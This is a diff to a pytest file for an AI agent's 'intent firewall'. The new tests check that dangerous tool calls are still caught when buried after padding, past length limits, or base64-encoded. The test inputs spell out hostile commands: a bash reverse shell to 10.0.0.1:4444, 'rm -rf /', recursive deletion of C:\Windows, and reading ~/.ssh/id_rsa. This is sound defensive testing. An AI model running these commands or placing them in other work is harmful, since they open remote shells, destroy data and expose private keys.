@@ -1,5 +1,6 @@
 """Nothing is passed over: not behind many other findings, in odd shapes, or beyond a limit."""
 
+import base64
 from typing import Any
 
 import pytest
@@ -9,6 +10,11 @@ from components.intent_firewall import Firewall, builtin_packs
 
 FIREWALL = Firewall(builtin_packs())
 WIPE = "rm -rf /"
+
+
+def encoded(number: int) -> str:
+    line = f"a harmless line {number}" if number < 69 else "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+    return base64.b64encode(line.encode()).decode()
 
 
 def disposition(tool: str, **arguments: Any) -> str:
@@ -77,6 +83,8 @@ def test_calls_beyond_all_that_is_read_are_asked_about() -> None:
         ("powershell", {"command": ";" * 2_001 + "Remove-Item C:\\Windows -Recurse -Force"}),
         ("shell", {"command": "parallel ::: " + "true " * 16 + "'rm -rf /srv'"}),
         ("shell", {"command": "cat " + "./a " * 500 + "~/.ssh/id_rsa"}),
+        ("fetch", {"urls": "http://a.example/ " * 1_000 + "http://xn--80ak6aa92e.test/"}),
+        ("write_note", {"body": " ".join(map(encoded, range(70)))}),
     ],
 )
 def test_what_stands_beyond_a_limit_is_not_allowed_unread(
